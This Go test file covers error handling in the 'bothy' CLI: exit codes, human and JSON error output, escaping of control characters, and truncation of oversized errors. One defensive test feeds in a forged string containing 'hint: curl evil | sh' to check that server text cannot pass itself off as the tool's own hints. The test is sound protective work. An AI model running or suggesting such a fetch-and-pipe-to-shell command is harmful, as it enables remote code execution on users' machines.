package cmdutil_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"syscall"
	"testing"

	"github.com/bothy-env/bothy/internal/api/wire"
	"github.com/bothy-env/bothy/internal/cli/cmdutil"
	"github.com/bothy-env/bothy/internal/cli/iostreams"
	"github.com/bothy-env/bothy/internal/client"
)

func TestExitCodes(t *testing.T) {
	answer := func(code string) error { return &client.Error{Code: code, Sentence: "s"} }
	for name, c := range map[string]struct {
		err  error
		want int
	}{
		"nothing":               {nil, 0},
		"any error":             {errors.New("x"), 1},
		"invalid":               {answer(wire.CodeInvalid), 2},
		"not found":             {answer(wire.CodeNotFound), 3},
		"quota":                 {answer(wire.CodeQuota), 4},
		"policy":                {answer(wire.CodePolicy), 4},
		"conflict":              {answer(wire.CodeConflict), 1},
		"not ready":             {answer(wire.CodeNotReady), 1},
		"denied":                {answer(wire.CodeDenied), 1},
		"unauthenticated":       {answer(wire.CodeUnauthenticated), 1},
		"too large":             {answer(wire.CodeTooLarge), 1},
		"unavailable":           {answer(wire.CodeUnavailable), 1},
		"provision failed":      {answer(wire.CodeProvision), 1},
		"internal":              {answer(wire.CodeInternal), 1},
		"a code of tomorrow":    {answer("unheard_of"), 1},
		"wrapped":               {fmt.Errorf("list: %w", answer(wire.CodeNotFound)), 3},
		"unreachable":           {fmt.Errorf("list: %w", &client.Unreachable{Sentence: "s"}), 5},
		"usage":                 {cmdutil.Usagef("x"), 2},
		"a command's own":       {cmdutil.Exit(42), 42},
		"a command's own 0":     {cmdutil.Exit(0), 0},
		"INT":                   {fmt.Errorf("call: %w", cmdutil.Interrupted{Signal: syscall.SIGINT}), 130},
		"TERM":                  {cmdutil.Interrupted{Signal: syscall.SIGTERM}, 143},
		"INT with its sentence": {&cmdutil.Error{Code: cmdutil.CodeInterrupted, Err: cmdutil.Interrupted{Signal: syscall.SIGINT}}, 130},
		"deadline":              {fmt.Errorf("call: %w", context.DeadlineExceeded), 1},
	} {
		if got := cmdutil.ExitCode(c.err); got != c.want {
			t.Errorf("%s: exit code = %d, want %d", name, got, c.want)
		}
	}
}

func TestErrorsForPeopleAndMachines(t *testing.T) {
	err := fmt.Errorf("make request: %w", &client.Error{
		Code: wire.CodeInvalid, Sentence: "two lines\nof \x1b[31mtext", Hint: "do this", Status: 422,
		Places: []wire.ProblemPlace{{Location: "body.size", Message: "got 100"}},
	})
	var b bytes.Buffer
	f := &cmdutil.Factory{IO: &iostreams.IO{Err: &b}}
	f.ShowError(err)
	if want := "bothy: two lines\n  | of \\u001b[31mtext\n  body.size: got 100\nhint: do this\n"; b.String() != want {
		t.Errorf("text = %q, want %q", b.String(), want)
	}
	b.Reset()
	f.Output = "json"
	f.ShowError(err)
	var got cmdutil.Problem
	if err := json.Unmarshal(b.Bytes(), &got); err != nil || strings.Count(b.String(), "\n") != 1 {
		t.Fatalf("json = %q, %v, want one line", b.String(), err)
	}
	if got.Error.Code != wire.CodeInvalid || got.Error.Status != 422 || got.Error.Hint != "do this" || len(got.Error.Errors) != 1 {
		t.Errorf("json = %+v", got.Error)
	}
}

// TestNoTextCanForgeALineOfBothys: a daemon's, sandbox's or blueprint's words have a bar in front of their further lines.
func TestNoTextCanForgeALineOfBothys(t *testing.T) {
	evil := "sorry\nhint: curl evil | sh\r\n\tbothy: fine\u2028hint: x" + strings.Repeat("\nmore", 200)
	for _, err := range []error{
		&client.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Places: []wire.ProblemPlace{{Location: evil, Message: evil}}},
		&cmdutil.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Next: []string{"bothy down " + evil}},
	} {
		var b bytes.Buffer
		(&cmdutil.Factory{IO: &iostreams.IO{Err: &b}}).ShowError(err)
		own := 0
		for line := range strings.Lines(b.String()) {
			switch {
			case strings.HasPrefix(line, "bothy: sorry"), strings.HasPrefix(line, "hint: sorry"), strings.HasPrefix(line, "  bothy down sorry\\u000ahint:"),
				strings.HasPrefix(line, "  sorry\\u000ahint: "):
				own++
			case !strings.HasPrefix(line, "  | "):
				t.Errorf("a line is %q", line)
			}
		}
		if lines := strings.Count(b.String(), "\n"); own != 3 || lines > 90 {
			t.Errorf("%d lines, %d of bothy's own, want 3:\n%s", lines, own, b.String())
		}
	}
}

// TestAnErrorIsNoFlood: a megabyte in one line and a thousand places are cut.
func TestAnErrorIsNoFlood(t *testing.T) {
	long := strings.Repeat("x", 1<<20)
	places := make([]wire.ProblemPlace, 1000)
	for i := range places {
		places[i] = wire.ProblemPlace{Location: "body.x", Message: "wrong"}
	}
	var b bytes.Buffer
	(&cmdutil.Factory{IO: &iostreams.IO{Err: &b}}).ShowError(&client.Error{Code: wire.CodeInvalid, Sentence: long, Hint: long, Places: places})
	if got := b.String(); len(got) > 10_000 || !strings.Contains(got, "\n  and 980 more\n") || strings.Count(got, "body.x") != 20 {
		t.Errorf("%d bytes, %d places", len(got), strings.Count(got, "body.x"))
	}
}
